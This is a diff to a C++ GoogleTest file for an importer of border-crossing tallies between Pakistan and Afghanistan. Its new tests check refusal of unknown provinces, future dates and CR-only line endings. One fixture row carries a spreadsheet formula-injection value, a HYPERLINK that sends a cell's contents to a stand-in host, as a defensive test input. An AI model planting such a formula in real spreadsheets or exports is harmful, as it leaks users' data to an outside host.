@@ -2,6 +2,7 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
 #include <random>
 
 namespace sanad::report {
@@ -14,7 +15,7 @@ TEST(TallyCsv, ReadsGoodRowsWithCanonicalCrossingNames) {
                           "2025-04-01,torkham,to_afghanistan,deported,3,12,5,7,2,3,6,1,Nangarhar\n"
                           "2025-04-01,Chaman,to_afghanistan,spontaneous,1,4,2,2,1,1,2,0,\n"
                           "2025-04-02,سپین بولدک,to_pakistan,assisted_voluntary_repatriation,2,"
-                          "9,4,5,1,2,5,1,\"Kandahar, city\"\n";
+                          "9,4,5,1,2,5,1,\"Qandahar\"\n";
   const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
   ASSERT_TRUE(parsed.errors.empty()) << parsed.errors[0].message;
   ASSERT_EQ(parsed.records.size(), 3u);
@@ -31,7 +32,7 @@ TEST(TallyCsv, ReadsGoodRowsWithCanonicalCrossingNames) {
   EXPECT_EQ(parsed.records[1].tally.crossing_point, "Chaman–Spin Boldak");
   EXPECT_EQ(parsed.records[2].tally.crossing_point, "Chaman–Spin Boldak");
   EXPECT_EQ(parsed.records[2].tally.direction, Direction::kToPakistan);
-  EXPECT_EQ(parsed.records[2].tally.destination_province, "Kandahar, city");
+  EXPECT_EQ(parsed.records[2].tally.destination_province, "Kandahar");
 }
 
 TEST(TallyCsv, EveryBadRowIsReportedWithLineAndColumn) {
@@ -137,6 +138,48 @@ TEST(TallyCsv, MangledInputNeverCrashes) {
       EXPECT_TRUE(ValidateFlowTally(r.tally, true).has_value());
     }
   }
+}
+
+// Defect G: a destination that is not a province of Afghanistan (a formula,
+// a typo) is refused naming its row; spellings are stored canonical.
+TEST(TallyCsv, DestinationMustBeAKnownAfghanProvince) {
+  const std::string csv = kHeader +
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,"
+                          "\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Click\"\")\"\n"
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Punjab\n"
+                          "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,nangrahar\n";
+  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
+  ASSERT_EQ(parsed.errors.size(), 2u);
+  EXPECT_EQ(parsed.errors[0].line, 2);
+  EXPECT_EQ(parsed.errors[0].field, "destination_province");
+  EXPECT_EQ(parsed.errors[1].line, 3);
+  EXPECT_EQ(parsed.errors[1].field, "destination_province");
+  ASSERT_EQ(parsed.records.size(), 1u);
+  EXPECT_EQ(parsed.records[0].tally.destination_province, "Nangarhar");
+}
+
+// Defect I: the importer refused nothing dated after today, though the API
+// refuses such movements.
+TEST(TallyCsv, AFutureDateIsRefused) {
+  const Date later = Date::FromDaysSinceEpoch(Date::Today().DaysSinceEpoch() + 10);
+  const std::string csv =
+      kHeader + later.ToIso() + ",Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n";
+  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
+  ASSERT_EQ(parsed.errors.size(), 1u);
+  EXPECT_EQ(parsed.errors[0].line, 2);
+  EXPECT_EQ(parsed.errors[0].field, "date");
+}
+
+// Defect L: CR-only line endings are read as line endings.
+TEST(TallyCsv, CrOnlyLineEndingsAreRead) {
+  std::string csv = kHeader +
+                    "2025-04-01,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n"
+                    "2025-04-02,Torkham,to_afghanistan,deported,1,2,1,1,0,0,2,0,Kabul\n";
+  std::replace(csv.begin(), csv.end(), '\n', '\r');
+  const auto parsed = ParseFlowTallyCsv(csv, CrossingGazetteer::Default());
+  ASSERT_TRUE(parsed.errors.empty()) << parsed.errors[0].message;
+  ASSERT_EQ(parsed.records.size(), 2u);
+  EXPECT_EQ(parsed.records[1].line, 3);
 }
 
 }  // namespace
